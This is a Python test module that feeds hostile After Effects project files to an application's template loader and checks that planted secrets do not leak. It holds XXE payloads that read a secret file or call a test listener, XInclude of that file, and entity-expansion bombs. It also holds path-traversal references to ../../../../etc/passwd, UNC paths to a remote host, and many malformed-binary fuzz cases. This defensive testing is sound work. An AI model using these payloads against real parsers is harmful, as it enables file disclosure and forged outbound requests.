"""Project files: XML that means harm, chunks that lie, compositions in circles."""

from __future__ import annotations

import struct
from collections.abc import Callable
from functools import cache, partial
from itertools import pairwise

import py_aep

from app.core.model import Template
from app.farm.packages import project_in
from app.render.fonts import FontLibrary
from app.render.renderer import Renderer
from app.template.chunks import MAX_DEPTH, Chunk, ChunkTree, read_rifx, write_rifx
from app.template.load import load_template
from app.template.locate import locate_footage
from app.template.relink import relink
from app.template.sidecar import noted_slots, read_sidecar
from app.template.slots import list_slots
from resources import samples
from tests.hostile.harness import PLANTED, Case, Place, parameters
from tests.unit.template import own_projects
from tests.unit.template.test_template_aepx import HEAD, TAIL, test_bad_xml_is_named
from tests.unit.template.test_template_files import test_what_is_no_project_is_described

MOST_PIXELS = 512 * 512
STORY = next(one for one in samples() if one.name == "story").template.with_suffix(".aep")

_SOURCE = 40
"""Where a layer's record names what it shows."""


def open_project(place: Place, name: str, data: bytes) -> Template:
    """What opening a template does, but in this process; and what follows when it is used."""
    path = place.folder / name
    path.write_bytes(data)
    project = project_in(path, unpacked=place.folder / "unpacked")
    loaded = load_template(project, name=path.name, cache=place.folder / "models", isolated=False)
    noted_slots(list_slots(loaded.template), read_sidecar(project))
    footage = locate_footage(loaded.template, project)
    assert place.secret not in footage.values()
    assert PLANTED not in repr(loaded.template)
    return loaded.template


def draw(template: Template) -> None:
    """The first frame of the first compositions, small. Raises `RenderError`."""
    renderer = Renderer(template, footage={}, fonts=FontLibrary())
    for comp in template.comps[:3]:
        if comp.frame_count > 0 and comp.width > 0 and comp.height > 0:
            scale = min(0.1, (MOST_PIXELS / (comp.width * comp.height)) ** 0.5)
            renderer.render(comp.id, 0, scale=scale)


@cache
def rich() -> bytes:
    return own_projects.rich_project()


def _leaf(tag: bytes, body: bytes) -> bytes:
    return tag + struct.pack(">I", len(body)) + body + b"\0" * (len(body) % 2)


def _rifx(content: bytes, *, announced: int | None = None, form: bytes = b"Egg!") -> bytes:
    return b"RIFX" + struct.pack(">I", len(content) + 4 if announced is None else announced) + form + content


def _hollow(count: int) -> bytes:
    """The rich project, with so many chunks more that hold nothing."""
    data = rich()
    end = 8 + int.from_bytes(data[4:8], "big")
    return _rifx(data[12:end] + b"abcd\0\0\0\0" * count) + data[end:]


def _nested(depth: int) -> bytes:
    content = b""
    for _ in range(depth):
        content = _leaf(b"LIST", b"Fold" + content)
    return _rifx(content)


def _patched(find: bytes, offset: int, value: bytes, count: int = 1) -> bytes:
    """The rich project with bytes of its first such chunks changed; `offset` counts from the body's start."""
    data = bytearray(rich())
    at = -1
    for _ in range(count):
        at = data.find(find, at + 1)
        if at < 0:
            break
        data[at + 8 + offset : at + 8 + offset + len(value)] = value
    return bytes(data)


def _circle(length: int) -> bytes:
    """Compositions of which each shows the next, and the last one the first."""
    project = py_aep.new("25.0x50", platform="windows").project
    comps = [project.root_folder.add_comp(f"C{number}", 20, 20, 1.0, 1.0, 25.0) for number in range(length + 1)]
    for comp, shown in pairwise(comps):
        comp.add(shown)
    data = bytearray(own_projects.saved(project))
    at = -1
    while (at := data.find(b"ldta", at + 1)) >= 0:
        source = at + 8 + _SOURCE
        if data[source : source + 4] == comps[-1].id.to_bytes(4, "big"):
            data[source : source + 4] = comps[0].id.to_bytes(4, "big")
    return bytes(data)


def _reference(body: bytes) -> bytes:
    """The rich project with every file reference replaced by other bytes of any length."""

    def walk(chunk: Chunk) -> Chunk:
        if chunk.tag == "alas":
            return Chunk("alas", "", body)
        return (
            chunk
            if chunk.children is None
            else Chunk(chunk.tag, chunk.list_type, b"", tuple(map(walk, chunk.children)))
        )

    tree = read_rifx(STORY.read_bytes(), "a.aep")
    return write_rifx(ChunkTree(walk(tree.root), tree.xmp))


def _used(make: Callable[[], bytes], place: Place) -> None:
    """Opened, its footage pointed elsewhere as on a worker, and drawn."""
    data = make()
    template = open_project(place, "show.aep", data)
    relink(read_rifx(data, "show.aep"), {}, location="C:\\work\\show.aep", name="show.aep")
    draw(template)


def _opened(name: str, make: Callable[[Place], bytes], place: Place) -> None:
    open_project(place, name, make(place))


def _xml(text: str) -> Callable[[Place], bytes]:
    return lambda place: text.replace("SECRET", place.secret.as_uri()).replace("LISTENER", place.address).encode()


_XML = {
    "entity of a file": '<!DOCTYPE x [<!ENTITY s SYSTEM "SECRET">]>' + HEAD + "<string>&s;</string>" + TAIL,
    "entity of an address": '<!DOCTYPE x [<!ENTITY s SYSTEM "LISTENER/x">]>' + HEAD + "<string>&s;</string>" + TAIL,
    "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "LISTENER/p"> %p;]>' + HEAD + TAIL,
    "outer document type": '<!DOCTYPE x SYSTEM "LISTENER/x.dtd">' + HEAD + TAIL,
    "public document type": '<!DOCTYPE x PUBLIC "-//X//Y" "LISTENER/x.dtd">' + HEAD + TAIL,
    "document type behind a comment": "<!-- - -->\n<!DOCTYPE x [<!ENTITY a 'b'>]>" + HEAD[39:] + TAIL,
    "document type behind an instruction": "<?a b?><?c?><!DOCTYPE x []>" + HEAD[39:] + TAIL,
    "document type in small letters": "<!doctype x>" + HEAD[39:] + TAIL,
    "quadratic entities": f"<!DOCTYPE x [<!ENTITY a '{'a' * 50_000}'>]>"
    + HEAD
    + "<string>"
    + "&a;" * 5000
    + "</string>",
    "entity of itself": "<!DOCTYPE x [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>" + HEAD + "<string>&a;</string>" + TAIL,
    "included file": HEAD.replace(
        "<AfterEffectsProject", '<AfterEffectsProject xmlns:xi="http://www.w3.org/2001/XInclude"'
    )
    + '<xi:include href="SECRET" parse="text"/>'
    + TAIL,
    "style sheet": '<?xml-stylesheet type="text/xsl" href="LISTENER/x.xsl"?>' + HEAD[39:] + TAIL,
    "schema elsewhere": HEAD.replace(
        "majorVersion",
        'xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="a LISTENER/x" majorVersion',
    )
    + TAIL,
    "a hundred thousand levels": HEAD + "<Fold>" * 100_000,
    "as many levels as are read": HEAD + "<Fold>" * (MAX_DEPTH - 1) + "</Fold>" * (MAX_DEPTH - 1) + TAIL,
    "attributes without end": HEAD + "<head " + " ".join(f'a{n}="{n}"' for n in range(20_000)) + "/>" + TAIL,
    "an attribute twice": HEAD + '<head bdata="00" bdata="01"/>' + TAIL,
    "a name without end": HEAD + f"<{'a' * 500_000}/>" + TAIL,
    "name spaces without end": HEAD + "".join(f'<Fold xmlns:n{n}="u{n}">' for n in range(60)) + "</Fold>" * 60 + TAIL,
    "a number of a million digits": HEAD + f"<numS><string>{'9' * 1_000_000}</string></numS>" + TAIL,
    "a number that is none": HEAD + "<ppSn><string>nan</string></ppSn>" + TAIL,
    "a number beyond all": HEAD + "<ppSn><string>1e999</string></ppSn>" + TAIL,
    "a negative count": HEAD + "<numS><string>-1</string></numS>" + TAIL,
    "digits of another script": HEAD + "<numS><string>٣٤</string></numS>" + TAIL,
    "thousands of elements": HEAD + "<Fold></Fold>" * 20_000 + TAIL,
    "a million elements": HEAD + "<Fold/>" * 1_000_000 + TAIL,
    "data without project": HEAD + TAIL,
    "a comment without end": "<!--" + "-" * 100_000,
    "a declaration without end": "<?xml " + "a" * 100_000,
    "an entity without end": HEAD + "<string>&" + "a" * 100_000,
    "half a character by reference": HEAD + "<string>&#xD800;</string>" + TAIL,
    "zero by reference": HEAD + "<string>&#0;</string>" + TAIL,
    "letters that turn direction": HEAD + "<Fold>\u202e</Fold>" + TAIL,
}

_ENCODED = {
    "UTF-16": (HEAD + TAIL).encode("utf-16"),
    "UTF-16 without a mark": (HEAD + TAIL).encode("utf-16-le"),
    "UTF-32": (HEAD + TAIL).encode("utf-32"),
    "UTF-7 by declaration": (HEAD + TAIL).replace("UTF-8", "UTF-7").encode(),
    "EBCDIC": (HEAD + TAIL).replace("UTF-8", "cp037").encode("cp037"),
    "UTF-8 that is too long": HEAD.encode() + b"<string>\xc0\xaf</string>" + TAIL.encode(),
    "half characters as UTF-8": HEAD.encode() + b"<string>\xed\xa0\x80</string>" + TAIL.encode(),
    "a zero byte": HEAD.encode() + b"<string>a\0b</string>" + TAIL.encode(),
    "two marks": b"\xef\xbb\xbf\xef\xbb\xbf" + (HEAD + TAIL).encode(),
}

_BINARY: dict[str, Callable[[], bytes]] = {
    "announces four gigabytes": lambda: _rifx(b"", announced=0xFFFFFFFF),
    "announces nothing": lambda: _rifx(b"", announced=0),
    "announces less than there is": lambda: _rifx(_leaf(b"head", bytes(20)), announced=4),
    "eleven bytes": lambda: b"RIFX\0\0\0\4Egg",
    "another form": lambda: _rifx(b"", form=b"Sfx!"),
    "a chunk of four gigabytes": lambda: _rifx(b"head\xff\xff\xff\xff"),
    "a chunk of minus one": lambda: _rifx(b"LIST\xff\xff\xff\xffFold"),
    "a list without a type": lambda: _rifx(_leaf(b"LIST", b"ab")),
    "ten thousand levels": lambda: _nested(10_000),
    "as many levels as are read": lambda: _nested(MAX_DEPTH - 1),
    "a name container of itself": lambda: _rifx(_leaf(b"tdsn", _leaf(b"tdsn", _leaf(b"tdsn", b"\xff" * 9)))),
    "thousands of empty chunks": lambda: _rifx(b"abcd\0\0\0\0" * 20_000),
    "a million empty chunks": lambda: _hollow(1_000_000),
    "tags of zeros": lambda: _rifx(_leaf(bytes(4), b"")),
    "only a head": lambda: _rifx(_leaf(b"head", bytes(30))),
    "a version from the future": lambda: _patched(b"head", 0, b"\xff\xff"),
    "a version from the past": lambda: _patched(b"head", 0, b"\0\1"),
    "sizes beyond all": lambda: _patched(b"cdta", 140, b"\xff\xff\xff\xff"),
    "sizes of zero": lambda: _patched(b"cdta", 140, bytes(4), 9),
    "records of ones": lambda: _patched(b"ldta", 0, b"\xff" * 120, 9),
    "records of zeros": lambda: _patched(b"ldta", 0, bytes(120), 9),
    "keyframes of ones": lambda: _patched(b"ldat", 0, b"\xff" * 64, 9),
    "counts of ones": lambda: _patched(b"lhd3", 0, b"\xff" * 40, 9),
    "values that are no numbers": lambda: _patched(b"cdat", 0, b"\x7f\xf8" + bytes(6), 99),
    "values beyond all": lambda: _patched(b"cdat", 0, b"\x7f\xef" + b"\xff" * 6, 99),
    "item ids that are all one": lambda: _patched(b"idta", 16, b"\0\0\0\1", 99),
    "a composition in itself": lambda: _circle(2),
    "a circle of nine compositions": lambda: _circle(9),
    "a text of brackets": lambda: rich().replace(b"/0 <<", b"<<<<<"),
    "a text without end": lambda: rich().replace(b">>", b"  "),
}

_REFERENCES = {
    "as deep as can be": b'{"fullpath":' + b"[" * 50_000,
    "half a character": b'{"fullpath":"\\\\\\\\host\\\\share\\\\a.png","server_name":"\\ud800"}',
    "half a character in the path": b'{"fullpath":"\\\\\\\\host\\\\\\ud800\\\\a.png"}',
    "another computer": b'{"fullpath":"\\\\\\\\203.0.113.9\\\\share\\\\a.png","platform":1}',
    "another computer, with slashes": b'{"fullpath":"//203.0.113.9/share/a.png"}',
    "a device": b'{"fullpath":"\\\\\\\\.\\\\PhysicalDrive0"}',
    "a name without end": b'{"fullpath":"C:\\\\' + b"a" * 5000 + b'.png"}',
    "a folder without end": b'{"fullpath":"/' + b"a/" * 5000 + b'a.png"}',
    "a path out of the folder": b'{"fullpath":"../../../../etc/passwd"}',
    "zeros in the path": b'{"fullpath":"/tmp/a\\u0000.png"}',
    "a list for a path": b'{"fullpath":[["\\\\\\\\host"]]}',
    "a number without end": b'{"fullpath":' + b"9" * 10_000 + b"}",
    "an address": b'{"fullpath":"http://203.0.113.9/a.png"}',
    "no JSON": b"\xff\xfe\xfd",
}


def _listed() -> list[Case]:
    case = partial(Case, "projects")
    found = [
        case(f"XML: {name}", partial(_opened, "show.aepx", _xml(text)), "show.aepx") for name, text in _XML.items()
    ]
    found += [
        case(f"encoding: {name}", partial(_opened, "show.aepx", lambda _, data=data: data), "show.aepx", True)  # type: ignore[misc]
        for name, data in _ENCODED.items()
    ]
    found += [
        case(f"bad XML {number}", partial(_opened, "show.aepx", _xml(one[0])), "show.aepx", True)
        for number, one in enumerate(parameters(test_bad_xml_is_named))
    ]
    found += [
        case(f"no project {number}", partial(_opened, "show.aep", lambda _, data=one[0]: data), "show.aep", True)  # type: ignore[misc]
        for number, one in enumerate(parameters(test_what_is_no_project_is_described))
    ]
    found += [case(f"chunks: {name}", partial(_used, make)) for name, make in _BINARY.items()]
    found += [
        case(f"file reference: {name}", partial(_used, partial(_reference, body))) for name, body in _REFERENCES.items()
    ]
    return found


CASES = tuple(_listed())
